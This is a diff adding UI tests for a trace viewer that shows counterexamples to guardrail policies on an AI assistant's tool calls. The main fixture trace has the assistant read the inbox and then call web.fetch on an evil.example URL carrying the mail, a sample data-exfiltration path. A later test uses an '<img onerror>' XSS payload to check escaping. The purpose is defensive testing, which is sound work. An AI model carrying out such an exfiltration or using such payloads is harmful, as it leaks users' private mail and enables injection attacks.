@@ -1,0 +1,213 @@
+// @vitest-environment happy-dom
+/** The trace view in a page, as a person uses it: by reading, clicking and keys. */
+import { render } from 'preact';
+import { act } from 'preact/test-utils';
+import { afterEach, beforeEach, describe, expect, test } from 'vitest';
+import { App } from '../../client/trace/app.js';
+import { sessionContent } from '../../client/trace/content.js';
+import type { FromView, SavedView, SessionContent } from '../../client/trace/messages.js';
+import type { PolicyResult, ShowSessionParams } from '../../server/lsp/protocol.js';
+import { counterexample, repairedResult, result, uri, violatedClaim } from './fixtures/results.js';
+
+const claim: ShowSessionParams = { uri, kind: 'claim', name: violatedClaim.name };
+const contentOf = (of: PolicyResult, before?: SessionContent, subject = claim): SessionContent =>
+    sessionContent(subject, { uri, version: 1, state: 'done', result: of }, before);
+
+let root: HTMLElement;
+let sent: FromView[];
+let kept: SavedView | undefined;
+
+beforeEach(() => {
+    root = document.body.appendChild(document.createElement('div'));
+    sent = [];
+    kept = undefined;
+});
+
+afterEach(() => {
+    render(null, root);
+    root.remove();
+});
+
+async function open(saved?: SavedView): Promise<void> {
+    const send = (message: FromView): number => sent.push(message);
+    await act(() => render(<App saved={saved} send={send} save={(state) => (kept = state)} />, root));
+}
+
+async function receive(content: SessionContent): Promise<void> {
+    await act(() => {
+        window.dispatchEvent(new MessageEvent('message', { data: { type: 'content', content } }));
+    });
+}
+
+async function press(key: string): Promise<void> {
+    await act(() => {
+        (document.activeElement ?? root).dispatchEvent(
+            new KeyboardEvent('keydown', { key, bubbles: true, cancelable: true })
+        );
+    });
+}
+
+const all = (selector: string): HTMLElement[] => [...root.querySelectorAll<HTMLElement>(selector)];
+const text = (selector: string): string => all(selector)[0]?.textContent ?? '';
+const selectedStep = (): string => text('.step.selected .node') || 'start';
+
+describe('a counterexample', () => {
+    beforeEach(async () => {
+        await open();
+        expect(sent).toEqual([{ type: 'ready' }]);
+        await receive(contentOf(result));
+        sent.length = 0;
+    });
+
+    test('shows the claim, the verdict and the sentence', () => {
+        expect(text('.verdict')).toBe('violated');
+        expect(text('h1')).toBe('mail leaves only through a person');
+        expect(text('.claim-text')).toBe('never external tools after mail.read unless approved by reviewer');
+        expect(text('.header .summary')).toBe(counterexample.summary);
+        expect(text('.basis')).toContain('No shorter session breaks it. Searched: 3 states');
+    });
+
+    test('shows each step with decision, rule, change and mark', () => {
+        const steps = all('.step:not(.start)').map((step) => ({
+            call: step.querySelector('.call')?.textContent,
+            decision: step.querySelector('.decision')?.textContent,
+            rule: step.querySelector('.rule-link code')?.textContent,
+            changes: [...step.querySelectorAll('.chip')].map((chip) => chip.textContent),
+            mark: step.querySelector('.mark, .judged-mark')?.textContent
+        }));
+        const rule = 'allow assistant: mail.read, mail.draft, web.fetch, web.post';
+        expect(steps).toEqual([
+            {
+                call: 'mail.read(folder: "inbox")',
+                decision: 'allowed',
+                rule,
+                changes: [
+                    '+added: assistant carries private',
+                    '+added: assistant carries untrusted',
+                    '+added: once mail.read'
+                ],
+                mark: 'needed to break the claim'
+            },
+            {
+                call: 'web.fetch(url: "https://evil.example/?q=the+mail")',
+                decision: 'allowed',
+                rule,
+                changes: [],
+                mark: 'It breaks here'
+            }
+        ]);
+    });
+
+    test('starts at the judged step; arrows move, and the editor follows', async () => {
+        expect(selectedStep()).toBe('2');
+        all('[aria-current="step"]')[0]!.focus();
+        await press('ArrowUp');
+        expect(selectedStep()).toBe('1');
+        expect(document.activeElement).toBe(all('[aria-current="step"]')[0]);
+        expect(sent).toEqual([{ type: 'reveal', source: counterexample.steps[0]!.rules[0]!.source, focus: false }]);
+        expect(text('.facts h2')).toBe('True after step 1');
+        expect(all('.fact.new')).toHaveLength(3);
+        await press('ArrowUp');
+        expect(selectedStep()).toBe('start');
+        expect(sent.at(-1)).toEqual({ type: 'unreveal' });
+        await press('ArrowUp');
+        expect(selectedStep()).toBe('start');
+        await press('End');
+        expect(selectedStep()).toBe('2');
+        await press('Home');
+        expect(selectedStep()).toBe('start');
+    });
+
+    test('Enter goes to the rule', async () => {
+        all('[aria-current="step"]')[0]!.focus();
+        await press('Enter');
+        expect(sent).toEqual([{ type: 'reveal', source: counterexample.steps[1]!.rules[0]!.source, focus: true }]);
+    });
+
+    test('a click on a step selects it, on a rule or the claim goes there', async () => {
+        await act(() => all('.step:not(.start)')[0]!.click());
+        expect(selectedStep()).toBe('1');
+        sent.length = 0;
+        await act(() => all('.rule-link')[1]!.click());
+        expect(selectedStep()).toBe('1');
+        await act(() => all('.claim-text')[0]!.click());
+        await act(() => all('.tool-button')[0]!.click());
+        expect(sent).toEqual([
+            { type: 'reveal', source: counterexample.steps[1]!.rules[0]!.source, focus: true },
+            { type: 'reveal', source: violatedClaim.source, focus: true },
+            { type: 'copyMarkdown' }
+        ]);
+    });
+
+    test('is spoken: one tab stop, a label with the marks', () => {
+        const buttons = all('.step-button');
+        expect(buttons.map((button) => button.tabIndex)).toEqual([-1, -1, 0]);
+        expect(buttons[1]!.getAttribute('aria-label')).toBe(
+            'Step 1 of 2: assistant calls mail.read(folder: "inbox"): allowed by line 9. breaks: without this step the claim would not be broken'
+        );
+        expect(all('ol[aria-describedby="keys"]')).toHaveLength(1);
+        expect(text('#keys')).toContain('Enter opens the rule');
+    });
+
+    test('follows the policy: checking, then it holds', async () => {
+        const before = contentOf(result);
+        await receive(sessionContent(claim, { uri, version: 2, state: 'checking' }, before));
+        expect(text('.freshness')).toBe('checking');
+        expect(all('.step')).toHaveLength(3);
+        await receive(contentOf(repairedResult, before));
+        expect(text('.verdict')).toBe('holds');
+        expect(text('.repaired')).toBe('Closed: no session breaks this claim any more.');
+        expect(all('.before li').map((step) => step.textContent)).toEqual(
+            counterexample.steps.map((step) => step.text)
+        );
+        expect(all('.step')).toHaveLength(0);
+        expect(text('.basis')).toContain('All sessions of any length were searched');
+    });
+
+    test('keeps the selection while the session stays the same', async () => {
+        await act(() => all('.step:not(.start)')[0]!.click());
+        await receive(contentOf(result));
+        expect(selectedStep()).toBe('1');
+        const shorter = { ...counterexample, steps: counterexample.steps.slice(1) };
+        await receive(contentOf({ ...result, claims: [{ ...violatedClaim, trace: shorter }] }));
+        expect(selectedStep()).toBe('1');
+        expect(text('.step.selected .call')).toContain('web.fetch');
+    });
+});
+
+test('an impossible claim lists what is in the way', async () => {
+    await open();
+    await receive(contentOf(result, undefined, { uri, kind: 'claim', name: 'it can still answer mail' }));
+    expect(text('.outcome .summary')).toBe('No session does it.');
+    expect(text('.problems li')).toMatch(/^mail.draft is denied allow assistant: .*mail.guardrail:9$/);
+});
+
+test('what is not known is not dressed up as a verdict', async () => {
+    await open();
+    await receive(sessionContent(claim, { uri, version: 1, state: 'invalid' }));
+    expect(text('.verdict')).toBe('not known');
+    expect(text('.note')).toContain('errors');
+    expect(text('.freshness')).toBe('as it stood before');
+});
+
+test('survives a reload', async () => {
+    await open();
+    await receive(contentOf(result));
+    await act(() => all('.step:not(.start)')[0]!.click());
+    const saved = kept;
+    await act(() => render(null, root));
+    await open(saved);
+    expect(selectedStep()).toBe('1');
+    expect(text('.verdict')).toBe('violated');
+});
+
+test('names and values of the author are text, never markup', async () => {
+    await open();
+    const name = '<img src=x onerror=alert(1)>';
+    const trace = { ...counterexample, summary: '<b>bold</b>' };
+    const subject: ShowSessionParams = { uri, kind: 'claim', name };
+    await receive(contentOf({ ...result, claims: [{ ...violatedClaim, name, trace }] }, undefined, subject));
+    expect(text('h1')).toBe(name);
+    expect(text('.header .summary')).toBe('<b>bold</b>');
+    expect(all('img')).toHaveLength(0);
+});
